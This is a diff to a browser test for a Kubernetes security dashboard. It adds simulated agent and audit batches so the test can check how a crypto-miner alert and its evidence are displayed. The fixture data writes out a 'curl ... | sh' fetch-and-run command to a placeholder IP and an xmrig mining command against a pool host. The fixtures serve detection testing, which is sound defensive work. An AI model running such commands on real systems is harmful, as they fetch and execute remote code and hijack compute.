@@ -8,6 +8,7 @@ import { saveRecommendations } from '../../src/center/recommendations.js';
 import { refreshSecureScore } from '../../src/center/score-refresh.js';
 import { createUser } from '../../src/center/users.js';
 import type { ResourceRef } from '../../src/core/index.js';
+import { AgentRuleEngine, loadAgentRules, sampleEvent, type AgentBatch } from '../../src/agent/index.js';
 import { createToken, openStore, replaceRunningImages, type Store } from '../../src/store/index.js';
 import { importOsv } from '../../src/vulndb/index.js';
 import { registryAvailable, startRegistry, type LocalRegistry } from '../registry/registry.js';
@@ -69,6 +70,46 @@ function privilegedPodBatch(): object {
   return { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [event] };
 }
 
+/**
+ * A batch as a node agent sends one after kubelet resolution: a miner started from a shell in the
+ * container `shell` of pod build-runner (payments), through the real agent rule engine. The
+ * container's image is the pushed image by digest when the registry ran, as the kubelet reports
+ * a container status's imageID.
+ */
+function minerBatch(node: string, image: string): AgentBatch {
+  const at = new Date().toISOString();
+  const container = { id: 'c0ffee5d1e2a4b6c8d0e2f4a6b8c0d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c', runtime: 'containerd' as const, name: 'shell', pod: 'build-runner', namespace: 'payments', podUid: '7b1f6c1e-4a55-4b8e-9a57-0f7f2a1c9d31', image };
+  const miner = sampleEvent({
+    kind: 'exec', at, container,
+    process: { name: 'xmrig', exe: '/tmp/.x/xmrig', argv: ['/tmp/.x/xmrig', '-o', 'stratum+tcp://pool.example.net:3333', '--donate-level=1'], uid: 0, container },
+    ancestors: [{ pid: 4242, name: 'sh', exe: '/bin/sh', argv: ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh'] }, { pid: 4100, name: 'containerd-shim-runc-v2', exe: '/usr/bin/containerd-shim-runc-v2', argv: [] }],
+  });
+  const engine = new AgentRuleEngine(loadAgentRules());
+  return {
+    batchId: `browser-${Date.now()}`, sentAt: at,
+    node: { name: node, kernel: '6.1.0-18-amd64', os: 'Debian GNU/Linux 12 (bookworm)', cores: 4, runtime: 'containerd', agentVersion: '0.1.0' },
+    heartbeat: { at },
+    events: [miner],
+    alerts: engine.evaluate(node, miner),
+  };
+}
+
+/** mallory creates the privileged pod build-runner whose container later runs the miner (audit). */
+function buildRunnerBatch(image: string): object {
+  const batch = privilegedPodBatch() as { items: Array<Record<string, unknown>> };
+  const at = new Date().toISOString();
+  const pod = {
+    kind: 'Pod', apiVersion: 'v1', metadata: { name: 'build-runner', namespace: 'payments', uid: '7b1f6c1e-4a55-4b8e-9a57-0f7f2a1c9d31' },
+    spec: { nodeName: 'node-7', containers: [{ name: 'shell', image, command: ['sleep', 'infinity'], securityContext: { privileged: true } }] },
+  };
+  const event = {
+    ...batch.items[0], auditID: 'a1b2c3d4-0000-4000-8000-browser00002', requestURI: '/api/v1/namespaces/payments/pods',
+    objectRef: { resource: 'pods', namespace: 'payments', name: 'build-runner', apiVersion: 'v1' },
+    requestObject: pod, responseObject: pod, requestReceivedTimestamp: at, stageTimestamp: at,
+  };
+  return { ...batch, items: [event] };
+}
+
 const pod = (name: string): ResourceRef => ({ kind: 'pod', id: `prod/payments/pod/${name}`, name, cluster: 'prod', namespace: 'payments' });
 
 /**
@@ -104,6 +145,8 @@ describe.skipIf(!ready())('the dashboard in a real browser', () => {
   let mode = '';
   /** A real registry whose pushes the server scans (built-server mode, when the tools are installed). */
   let registry: LocalRegistry | undefined;
+  /** The pushed image as a kubelet reports it (REPOSITORY@DIGEST), once scanned; a tag without a registry. */
+  let runningImage = 'busybox:1.36';
 
   beforeAll(async () => {
     mkdirSync(SHOTS, { recursive: true });
@@ -271,6 +314,7 @@ describe.skipIf(!ready())('the dashboard in a real browser', () => {
     }
     const total = Object.values(image.counts).reduce((a, b) => a + b, 0);
     expect(total).toBeGreaterThan(0);
+    runningImage = `${registry!.host}/demo/app@${image.digest}`;
     await page.goto(`${base}/images?digest=${encodeURIComponent(image.digest)}`);
     const findings = page.getByRole('region', { name: /Findings in sha256:/ });
     // The server pages the findings (100 a page) and says how many there are: nothing is cut silently.
@@ -323,6 +367,52 @@ describe.skipIf(!ready())('the dashboard in a real browser', () => {
     expect(title).toMatch(/^Image demo\/app gained (\d+ critical, \d+ high|\d+ critical|\d+ high)-severity vulnerabilit(y|ies)$/);
     expect(await unlabelledControls(page)).toEqual([]);
     await shot('image-findings');
+  });
+
+  it('shows an agent alert sent as a node agent sends its batch, with the process, container, pod and node readable and linked', async () => {
+    // The pod is created by a person first (audit), then its container runs a miner (agent).
+    expect(await ingestAudit(buildRunnerBatch(runningImage))).toMatchObject({ events: 1, alerts: 1 });
+    const batch = minerBatch('node-7', runningImage);
+    expect(batch.alerts.map((a) => a.rule)).toContain('agent.crypto-miner');
+    const sent = await fetch(`${base}/ingest/agent`, { method: 'POST', headers: { ...bearer(clusterToken), 'content-type': 'application/json' }, body: JSON.stringify(batch) });
+    expect(sent.status, await sent.clone().text()).toBe(200);
+    expect(await sent.json()).toMatchObject({ cluster: 'prod', node: 'node-7', events: 1, alerts: { created: batch.alerts.length } });
+
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Security alerts' }).click();
+    await page.getByRole('heading', { name: 'Security alerts' }).waitFor();
+    const row = page.getByRole('row').filter({ has: page.getByRole('link', { name: 'Crypto-miner activity', exact: true }) }).first();
+    await row.waitFor({ timeout: 15_000 });
+    expect(await row.textContent()).toContain('prod / payments / container/build-runner/shell');
+    await row.getByRole('link', { name: 'Crypto-miner activity', exact: true }).click();
+    await page.getByRole('heading', { name: 'Crypto-miner activity' }).waitFor();
+    await page.getByText('rule agent.crypto-miner, source agent').waitFor();
+    // The evidence in words: the command line, who started it, and where it ran.
+    const host = page.getByRole('table', { name: 'Host evidence 1' });
+    const cell = (name: string) => host.getByRole('row').filter({ has: page.getByRole('rowheader', { name, exact: true }) }).getByRole('cell');
+    expect(await cell('Process').textContent()).toContain('/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level=1');
+    expect(await cell('Process').textContent()).toContain('user id 0 (root)');
+    expect(await cell('Started by').getByRole('listitem').allTextContents()).toEqual(['sh (pid 4242): sh -c curl -s http://203.0.113.9/x.sh | sh', 'containerd-shim-runc-v2 (pid 4100)']);
+    expect(await cell('Container').textContent()).toContain(`image ${runningImage}`);
+    expect(await host.getByRole('link', { name: 'alerts on container shell' }).getAttribute('href')).toBe(`/alerts?resource=${batch.alerts[0]!.resource.id}`);
+    expect(await host.getByRole('link', { name: 'alerts on pod build-runner' }).getAttribute('href')).toBe('/alerts?q=build-runner&namespace=payments');
+    expect(await host.getByRole('link', { name: 'payments' }).getAttribute('href')).toBe('/alerts?namespace=payments');
+    // Every recorded field is one click away, as a table, not JSON.
+    expect(await page.getByRole('table', { name: 'Evidence event 1' }).isVisible()).toBe(false);
+    await page.getByText(/^Every recorded field \(\d+\)$/).click();
+    await page.getByRole('table', { name: 'Evidence event 1' }).getByRole('row').filter({ hasText: 'processTree[1].argv' }).waitFor();
+    expect(await unlabelledControls(page)).toEqual([]);
+    await shot('agent-alert');
+    // The node link opens the node in the inventory, as its heartbeat reported it.
+    await host.getByRole('link', { name: 'node node-7 in the inventory' }).click();
+    const nodes = page.getByRole('region', { name: 'Node node-7' });
+    await nodes.getByRole('cell', { name: 'node-7', exact: true }).waitFor();
+    await nodes.getByRole('cell', { name: 'Debian GNU/Linux 12 (bookworm) / 6.1.0-18-amd64' }).waitFor();
+    await page.goBack();
+    // The container link lists exactly that container's alerts.
+    await page.getByRole('table', { name: 'Host evidence 1' }).getByRole('link', { name: 'alerts on container shell' }).click();
+    await page.getByText(/Alerts on resource .* only/).waitFor();
+    await page.getByRole('link', { name: 'Crypto-miner activity', exact: true }).first().waitFor();
+    await expect.poll(() => page.getByRole('link', { name: 'Privileged container created', exact: true }).count()).toBe(0);
   });
 
   it('exempts an unhealthy resource from a recommendation with a reason and an expiry, and the score goes up', async () => {
